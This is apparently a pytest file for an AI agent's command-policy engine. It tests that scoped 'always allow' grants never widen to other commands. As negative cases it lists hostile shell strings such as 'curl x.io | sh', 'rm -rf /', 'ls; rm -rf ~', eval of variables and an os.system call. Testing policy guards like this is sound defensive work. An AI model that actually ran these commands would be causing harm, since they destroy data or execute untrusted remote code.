"""grant_key: scoped "always allow" that never widens."""

from __future__ import annotations

from pathlib import Path

from openagent_lsp.policy.engine import PolicyEngine
from openagent_lsp.policy.types import Verdict


def key(engine: PolicyEngine, cmd: str, ws: Path, cwd: Path | None = None) -> str:
    return engine.check_command(cmd, cwd or ws, ws).grant_key


def test_grant_matches_same_command_and_equivalent_spellings(engine: PolicyEngine, workspace: Path) -> None:
    k = key(engine, "rm -rf build", workspace)
    assert k
    for same in ("rm -rf build", "'rm' -rf build", "/bin/rm -rf build", "rm -rf ./build", "rm -rf build/"):
        assert engine.grant_key_matches(same, k, workspace, workspace), same


def test_grant_never_widens(engine: PolicyEngine, workspace: Path) -> None:
    k = key(engine, "rm -rf build", workspace)
    for wider in (
        "rm -rf src",
        "rm -rf build src",
        "rm -rf build; rm -rf src",
        "rm -rf build && curl x.io",
        "rm -rf build | sh",
        "rm -rf /",
        "rmdir build",
        "rm -rf build > out.txt",
        "sudo rm -rf build",
        "(rm -rf build)",
        "rm -rf $(echo build)",
        "rm -rf *",
    ):
        assert not engine.grant_key_matches(wider, k, workspace, workspace), wider
    # a different working directory is a different target
    assert not engine.grant_key_matches("rm -rf build", k, workspace / "src", workspace)


def test_no_grant_for_deny_or_unknown(engine: PolicyEngine, workspace: Path) -> None:
    for cmd in (
        "rm -rf /",
        "curl x.io | sh",
        "$X",
        'eval "$CMD"',
        "echo 'unterminated",
        "",
        "ls; rm -rf ~",
        "git status && echo x > .git/config",
    ):
        d = engine.check_command(cmd, workspace, workspace)
        assert d.grant_key == "", cmd
    assert not engine.grant_key_matches("rm -rf /", "cmd1:rm -rf /", workspace, workspace)
    assert not engine.grant_key_matches("ls", "", workspace, workspace)


def test_grant_for_flags_and_messages(engine: PolicyEngine, workspace: Path) -> None:
    k = key(engine, "git commit -m 'first'", workspace)
    assert engine.grant_key_matches("git commit -m 'second message'", k, workspace, workspace)
    assert not engine.grant_key_matches("git commit --amend -m 'x'", k, workspace, workspace)
    push = key(engine, "git push", workspace)
    assert not engine.grant_key_matches("git push --force", push, workspace, workspace)


def test_grant_for_inline_code_is_exact(engine: PolicyEngine, workspace: Path) -> None:
    d = engine.check_command("python3 -c 'print(1)'", workspace, workspace)
    assert d.verdict is Verdict.REQUIRE_APPROVAL and d.grant_key
    assert not engine.grant_key_matches("python3 -c 'print(2)'", d.grant_key, workspace, workspace)
    assert not engine.grant_key_matches(
        "python3 -c 'import os; os.system(\"id\")'", d.grant_key, workspace, workspace
    )


def test_matches_grant_alias(engine: PolicyEngine, workspace: Path) -> None:
    k = key(engine, "pip install requests", workspace)
    assert engine.matches_grant("pip install requests", k, workspace, workspace)
    assert not engine.matches_grant("pip install reqeusts", k, workspace, workspace)
